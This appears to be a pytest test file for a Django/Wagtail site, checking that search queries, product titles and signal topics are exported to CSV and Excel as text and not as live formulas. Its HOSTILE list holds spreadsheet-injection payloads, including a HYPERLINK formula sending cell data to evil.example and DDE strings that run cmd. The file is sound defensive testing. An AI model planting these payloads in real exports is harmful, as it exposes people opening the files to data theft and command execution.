"""Spreadsheet injection: text from outside (search queries, signal topics, titles) never reaches a
spreadsheet program as a formula, in the admin's CSV exports, the product export or the quarterly
workbook; the product export still reads back unchanged."""

import csv
import datetime
import io

from django.test import Client
from django.urls import reverse
from django.utils import timezone

import openpyxl
import pytest

from conftest import make_user
from core.security.spreadsheets import FORMULA_STARTS, neutralise_cell, restore_cell
from core.tests.exports.helpers import body, csv_rows, export_and_download
from hubcms.testing.factories import ProductPageFactory
from operations.models import KnowledgeSignal
from products.importexport import export_products, import_products
from products.models import ProductLibraryPage, Region
from search.analytics import record_search

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def formula_cells(rows) -> list[str]:
    return [cell for row in rows for cell in row if str(cell or "").startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    "value", [*HOSTILE, "\tverborgen", "\r=1+1", "'=al gequote", "''+twee keer", "gewoon", ""]
)
def test_neutralising_a_cell_is_undone_exactly(value):
    neutral = neutralise_cell(value)
    assert not neutral.startswith(FORMULA_STARTS)
    assert restore_cell(neutral) == value


def test_search_queries_from_the_public_are_text_in_the_admins_csv_export(coordinator):
    for query in HOSTILE:
        record_search(query=query, result_count=0)
    client = Client()
    client.force_login(coordinator)

    response = export_and_download(client, reverse("hubsearch_frequent_queries"), {"export": "csv"})

    rows = csv_rows(response)
    assert formula_cells(rows) == []
    queries = {row[0] for row in rows[1:]}
    assert '\'=hyperlink("https://evil.example/?"&a1,"klik hier")' in queries
    assert "'@sum(1+1)*cmd|' /c calc'!a0" in queries


def test_wagtails_own_reports_are_neutralised_too(hub):
    """Wagtail's built-in reports export through the same background path (site history here)."""
    library = ProductLibraryPage.objects.get()
    page = ProductPageFactory(parent=library, title="=1+2")
    page.save_revision(log_action=True)
    client = Client()
    client.force_login(make_user("hoofdbeheer", is_superuser=True))

    response = export_and_download(
        client, reverse("wagtailadmin_reports:site_history"), {"export": "csv"}
    )

    rows = csv_rows(response)
    assert any("'=1+2" in cell for row in rows for cell in row)
    assert formula_cells(rows) == []


def test_the_product_export_neutralises_and_reads_back_unchanged(hub, editor, tmp_path):
    library = ProductLibraryPage.objects.get()
    ProductPageFactory(
        parent=library, title=HOSTILE[0], slug="scan-een", summary="-5% kosten, @regio"
    )
    path = tmp_path / "producten.csv"

    export_products(output=path, include_downloads=False)

    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert formula_cells(rows) == []
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["title"] == "'" + HOSTILE[0]
    report = import_products(path, user=editor)
    assert report.ok, report.lines()
    assert [outcome.outcome for outcome in report.records] == ["unchanged"]


def test_a_signal_topic_is_text_in_the_quarterly_workbook(coordinator):
    received = timezone.make_aware(datetime.datetime(2026, 8, 3, 10, 0))
    KnowledgeSignal.objects.create(
        region=Region.objects.get(code="zeeland"),
        organisation_kind="gemeente",
        topic=HOSTILE[0],
        description="Een signaal.",
        received_at=received,
    )
    client = Client()
    client.force_login(coordinator)

    response = export_and_download(
        client, reverse("operations_admin:quarterly_report_xlsx", args=["2026-Q3"])
    )

    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    cells = [cell for row in workbook["Kennissignalen ontvangen"].iter_rows() for cell in row]
    topic = next(cell for cell in cells if cell.value == HOSTILE[0])
    assert topic.data_type == "s"  # text, not a formula that Excel would evaluate
